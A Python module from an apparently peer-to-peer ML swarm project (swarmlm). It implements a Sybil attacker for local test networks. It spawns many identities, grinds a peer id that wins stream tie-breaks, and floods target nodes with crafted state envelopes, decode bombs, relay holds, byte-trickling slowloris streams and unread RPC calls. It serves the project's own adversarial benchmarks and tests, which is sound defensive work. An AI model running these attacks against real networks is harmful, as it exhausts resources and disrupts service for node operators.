"""A Sybil attacker for local swarms: one process holding M identities runs one attack class.

``python -m swarmlm.testnet.sybil --target MADDR [--target ...] --attack verdicts|shape|owners|pending|rpc
--identities M --duration S [--model builtin:tiny]`` connects to the targets and, until ``duration``
is up, delivers what ``testnet/sybil_payloads.py`` crafts (state attacks: signed envelopes of all M
identities over one libp2p connection and its ``/swarmlm/state/1`` link; ``rpc``: every identity
its own connection sending decode bombs, relay holds that never get a session, frames trickled a
byte at a time, and calls whose answers it never reads). Then it leaves. Used by
``swarmlm bench sybil`` and the adversarial tests (``state_attack`` / ``rpc_attack`` in-process).
"""

from __future__ import annotations

import argparse
import logging
import sys
import time
from contextlib import AsyncExitStack
from typing import Any

import trio

from swarmlm.crypto.identity import Identity
from swarmlm.net.frames import encode_frame_bytes
from swarmlm.net.host import ECHO_PROTOCOL, HostConfig, SwarmHost, split_p2p_addr
from swarmlm.net.state.wire import PROTOCOL_ID as STATE_PROTOCOL
from swarmlm.testnet.sybil_payloads import (ATTACKS, batches, decode_bomb, empty_owner_envelopes, pending_envelopes,
                                            shape_envelopes, trickle_prefix, verdict_envelopes)

log = logging.getLogger("swarmlm.sybil")
SHARD_PROTOCOL = "/swarmlm/shard/1"  # as node/wire.py names it (testnet does not import node)


def light_host(identity: Identity | None = None) -> SwarmHost:
    """A bare libp2p host: no relay, hole punching, reachability or discovery."""
    return SwarmHost(identity or Identity.generate(), HostConfig(
        listen=["/ip4/127.0.0.1/tcp/0"], relay=False, hole_punch=False, reachability=False,
        discovery_interval_s=3600.0, ping_interval_s=3600.0))


def opener_identity(targets: list[str]) -> Identity:
    """An identity whose peer id sorts below every target's. A target then keeps the state stream
    this host opens instead of one it opens itself (the smaller id's stream wins, net/state_service.py),
    so the payload always reaches it; identities are free, so a real attacker can do the same."""
    while True:
        ident = Identity.generate()
        if all(ident.peer_id < t for t in targets):
            return ident


def state_payload(attack: str, idents: list[Identity], subjects: list[str], model: str, now: float) -> list[bytes]:
    if attack == "verdicts":
        return verdict_envelopes(idents, subjects, now)
    if attack == "shape":
        return shape_envelopes(idents, model, now)
    if attack == "owners":
        return empty_owner_envelopes(idents, now)
    if attack == "pending":
        return pending_envelopes(idents, now)
    raise ValueError(f"{attack!r} is not a state attack")


async def state_attack(host: SwarmHost, targets: list[str], raws: list[bytes], hold_s: float = 1.0) -> int:
    """Hand ``raws`` to every target over a state link from ``host``; the bytes sent."""
    sent = 0
    for peer in targets:
        try:
            async with host.rpc.stream(peer, STATE_PROTOCOL, "sync", None, timeout=60) as call:
                for msg in batches(raws):
                    await call.send(msg)
                    sent += len(msg)
                await trio.sleep(hold_s)
                raise _Leave
        except _Leave:
            pass
        except Exception as exc:  # the target cut us off: that is its defence working
            log.info("state link to %s ended: %s", peer[-8:], exc)
    return sent


class _Leave(Exception):
    pass


async def _quietly(fn: Any, *args: Any) -> None:
    try:
        await fn(*args)
    except Exception as exc:  # refused, reset, timed out: the target defends itself
        log.debug("rpc attack step: %s", exc)


async def _bomb(host: SwarmHost, peer: str) -> None:
    s = await host.open_stream(peer, ECHO_PROTOCOL)
    with trio.move_on_after(5):
        await s.write(decode_bomb())
        await s.read(64)
    await s.reset()


async def _relay_hold(host: SwarmHost, peer: str, n: int) -> None:
    await host.rpc.call(peer, SHARD_PROTOCOL, "relay", {"session_id": f"nobody-{n}"}, timeout=20)


async def _trickle(host: SwarmHost, peer: str) -> None:
    s = await host.open_stream(peer, ECHO_PROTOCOL)
    await s.write(trickle_prefix())
    with trio.move_on_after(40):
        while True:
            await s.write(b"\x00")
            await trio.sleep(1.0)
    await s.reset()


async def _slow_reader(host: SwarmHost, peer: str) -> None:
    s = await host.open_stream(peer, SHARD_PROTOCOL)
    await s.write(encode_frame_bytes({"m": "files", "a": None, "d": 60}))
    await trio.sleep(40)  # never read the answer
    await s.reset()


RPC_PARTS = ("bomb", "relay", "trickle", "unread")
ALL_PARTS = RPC_PARTS + ("idle",)  # "idle": connect and hold the connection, nothing more (what connecting costs)


async def rpc_attack(hosts: list[SwarmHost], targets: list[str], duration_s: float,
                     parts: tuple[str, ...] = RPC_PARTS) -> None:
    """Host ``i`` against ``targets[i]`` (one list, or one target per host), for ``duration_s``:
    decode bombs, relay holds, a trickled frame and an unread answer, repeated every second."""
    pairs = list(zip(hosts, targets)) if len(targets) == len(hosts) else [(h, t) for h in hosts for t in targets]
    with trio.move_on_after(duration_s):
        async with trio.open_nursery() as nursery:
            for host, peer in pairs:
                if "trickle" in parts:
                    nursery.start_soon(_quietly, _trickle, host, peer)
                if "unread" in parts:
                    nursery.start_soon(_quietly, _slow_reader, host, peer)
            k = 0
            while True:
                for host, peer in pairs:
                    if "bomb" in parts:
                        nursery.start_soon(_quietly, _bomb, host, peer)
                    if "relay" in parts:
                        nursery.start_soon(_quietly, _relay_hold, host, peer, k)
                    k += 1
                await trio.sleep(1.0)


async def _wait_go() -> None:
    """Tell the bench the hosts are up (a line on stdout), then wait for its line on stdin."""
    print("ready", flush=True)
    await trio.to_thread.run_sync(sys.stdin.readline)


async def run(targets: list[str], attack: str, identities: int, duration_s: float, model: str,
              parts: tuple[str, ...] = RPC_PARTS, wait_go: bool = False) -> dict[str, Any]:
    """Make the identities and start their hosts (this process's own work, before ``wait_go``'s
    signal when given), then connect to the targets and attack them for ``duration_s``."""
    peers = [split_p2p_addr(t)[1] for t in targets]
    idents = [Identity.generate() for _ in range(identities)]
    report: dict[str, Any] = {"attack": attack, "identities": identities}
    async with AsyncExitStack() as stack:
        n_hosts = identities if attack == "rpc" else 1
        hosts = [light_host(idents[i] if attack == "rpc" else opener_identity(peers)) for i in range(n_hosts)]
        for h in hosts:
            await stack.enter_async_context(h.running())
        if wait_go:
            await _wait_go()
        t0 = time.monotonic()
        # rpc: each identity its own connection, to one target (round robin); state: one host, all targets
        plan = [(h, [targets[i % len(targets)]] if attack == "rpc" else targets) for i, h in enumerate(hosts)]
        with trio.move_on_after(30):
            async with trio.open_nursery() as nursery:
                for h, ts in plan:
                    for t in ts:
                        nursery.start_soon(_quietly, h.connect, t)
        if attack == "rpc":
            await rpc_attack([h for h, _ in plan], [split_p2p_addr(ts[0])[1] for _, ts in plan], duration_s, parts)
        else:
            end = t0 + duration_s
            sent = 0
            while time.monotonic() < end:  # repeat: fresh times, so the attack is live all along
                raws = state_payload(attack, idents, peers, model, time.time())
                sent += await state_attack(hosts[0], peers, raws, hold_s=min(2.0, max(0.0, end - time.monotonic())))
            report["bytes"] = sent
    report["seconds"] = round(time.monotonic() - t0, 2)
    return report


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m swarmlm.testnet.sybil", description=__doc__.split("\n")[0])
    p.add_argument("--target", action="append", required=True, help="a node's multiaddr with /p2p/ (repeatable)")
    p.add_argument("--attack", choices=ATTACKS, required=True)
    p.add_argument("--identities", type=int, default=16)
    p.add_argument("--duration", type=float, default=10.0)
    p.add_argument("--model", default="builtin:tiny")
    p.add_argument("--parts", default=",".join(RPC_PARTS), help="rpc attack: which parts (comma-separated)")
    p.add_argument("--wait-go", action="store_true",
                   help="start the hosts, print 'ready', and attack only after a line on stdin (benches pre-spawn)")
    ns = p.parse_args(argv)
    parts = tuple(x for x in ns.parts.split(",") if x)
    unknown = sorted(set(parts) - set(ALL_PARTS))
    if unknown or not parts:
        p.error(f"--parts takes a comma-separated subset of {','.join(ALL_PARTS)}, not {ns.parts!r}")
    logging.basicConfig(level=logging.WARNING, stream=sys.stderr)
    report = trio.run(run, ns.target, ns.attack, ns.identities, ns.duration, ns.model, parts, ns.wait_go)
    print(report, file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
